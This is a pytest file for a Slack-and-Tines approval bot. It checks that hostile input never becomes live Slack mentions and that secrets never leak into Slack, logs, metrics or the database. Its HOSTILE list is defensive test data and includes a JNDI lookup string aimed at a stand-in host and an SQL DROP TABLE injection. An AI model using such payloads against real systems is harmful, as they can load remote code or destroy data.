"""After a flow with hostile texts and with secrets in every answer of Tines, none has got out, and no text is live."""

import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from bot.logs import configure_logs
from bot.playground.slack import Direction, live_mentions
from bot.playground.stage import APPROVERS, GENERAL, RINA, Play
from bot.playground.tines import Fault, Kind
from bot.playground.tines.seed import DEV_KEY, PROD_KEY, PROD_PUBLISH_KEY
from handlers.models import State

from .office import HURRIED, Office, database, opened
from .quiet_logs import logging_as_before

SECRETS = (DEV_KEY, PROD_KEY, PROD_PUBLISH_KEY)
HOSTILE = (
    "<!channel>",
    "<!here|all of you>",
    "<@U0TOM>",
    "<!subteam^S0APPROVERS>",
    "<#C0SECOPS>",
    "&lt;!everyone&gt;",
    "<https://evil.example|a harmless link>",
    "*bold* _italic_ ~gone~ `code` ```block```",
    "\u202eevil\u202c",
    "🧨 👩‍🚒 é ẞ 漢字",
    "null\x00byte",
    "{{.STORY.secret}}",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE requests; --",
)
ALL = " ".join(HOSTILE)


@pytest.fixture
def out() -> Iterator[io.StringIO]:
    """Write the log with every detail, where the test can read it, and mask what production masks."""
    with logging_as_before():
        stream = io.StringIO()
        configure_logs(as_json=True, level="debug", secrets=SECRETS, stream=stream)
        yield stream


def everything_for_slack(office: Office) -> Iterator[Any]:
    """Yield whatever Slack was given to show: the arguments of each call, and each answer to what it sent."""
    for exchange in office.stage.slack.traffic:
        yield exchange.request if exchange.direction is Direction.TO_SLACK else exchange.answer


def files(folder: Path) -> bytes:
    """Return every byte on disk: the database with its write-ahead log."""
    return b"".join(path.read_bytes() for path in sorted(folder.iterdir()) if path.is_file())


def check_no_secret(office: Office, folder: Path, log: str, figures: str) -> None:
    """Fail where any secret, or a part of one that would give it away, has got to."""
    slack = "\n".join(map(str, office.stage.slack.traffic))
    for secret in SECRETS:
        assert secret not in slack
    tokens = (office.stage.slack.app.bot_token, office.stage.slack.app.signing_secret)
    for secret in (*SECRETS, *tokens):
        assert secret not in log
        assert secret not in figures
        assert secret.encode() not in files(folder)


async def figures_of(office: Office) -> str:
    """Return what Prometheus is given."""
    async with httpx.AsyncClient(trust_env=False) as client:
        return (await client.get(f"{office.stage.bot_url}/metrics")).text


async def test_hostile_flow(tmp_path: Path, out: io.StringIO) -> None:
    """From the form to the status list nothing that people or Tines wrote mentions, links or formats anything."""
    async with opened(Play(database_url=database(tmp_path), outside=HURRIED)) as office:
        dev, prod = office.stage.dev, office.stage.prod
        team = dev.add_team(f"Red <!channel> {HOSTILE[2]}")
        prod.add_team(f"Blue {HOSTILE[6]}")
        names = [f"{number} {text}" for number, text in enumerate(HOSTILE)]
        stories = [dev.add_story(team.id, name, tags=(HOSTILE[0],)) for name in names]
        for story in stories[:4]:
            dev.fail_story(story.id, f"{ALL} {DEV_KEY} {PROD_PUBLISH_KEY}")
        dev.fail_story(stories[4].id, ALL * 60 + PROD_PUBLISH_KEY)
        request = await office.asks("All", source="Red", destination="Blue", reason=ALL, query="")
        assert len(request.content.stories) == len(HOSTILE)
        await office.approves(request)
        done = await office.rests(request, State.PARTIAL)
        for word in (f"status {done.id}", f"history {done.id}", "list", ALL, f"status {ALL}", f"freeze {ALL}"):
            await office.ada.types(GENERAL, word)
        await office.stage.slack.open_home(RINA)
        figures = await figures_of(office)
        live = {mention for payload in everything_for_slack(office) for mention in live_mentions(payload)}
        check_no_secret(office, tmp_path, out.getvalue(), figures)
    assert {each for each in live if not _intended(each)} == set()
    assert f"<@{RINA}>" in live
    assert sum(1 for status in done.statuses if status.error) == 5


async def test_secrets_in_refusals(tmp_path: Path, out: io.StringIO) -> None:
    """A refusal of Tines that repeats keys is shown, logged and kept without them, whatever call it answers."""
    async with opened(Play(database_url=database(tmp_path), outside=HURRIED)) as office:
        request = await office.asks(reason=f"Please {HOSTILE[0]}")
        words = f"denied {HOSTILE[0]} api_key={PROD_PUBLISH_KEY} Bearer {DEV_KEY}"
        office.stage.dev.faults.add(Fault(Kind.ANSWER, "POST", "/admin/sync_destinations", status=422, message=words))
        await office.approves(request)
        failed = await office.rests(request, State.FAILED)
        office.stage.dev.faults.clear()
        office.stage.dev.faults.add(Fault(Kind.ANSWER, status=403, message=words))
        office.stage.prod.faults.add(Fault(Kind.ANSWER, status=500, message=words))
        await office.rina.opens_form(GENERAL)
        await office.rina.searches("Source team", "zzz")
        await office.rina.searches("Destination team", "zzz")
        await office.ada.types(GENERAL, f"status {request.id}")
        figures = await figures_of(office)
        live = {mention for payload in everything_for_slack(office) for mention in live_mentions(payload)}
        check_no_secret(office, tmp_path, out.getvalue(), figures)
    assert failed.problem is not None
    assert "denied" in failed.problem.words
    assert {each for each in live if not _intended(each)} == set()


def _intended(mention: str) -> bool:
    """Whether the bot means to mention or link this: people of the request, its approvers, and its own thread."""
    return (
        re.fullmatch(
            rf"<@U0(RINA|ADA)>|<!subteam\^{APPROVERS}>|<!date\^.*>|<#C0APPROVALS>|<https://local\.slack\.com/archives/.*>",
            mention,
        )
        is not None
    )
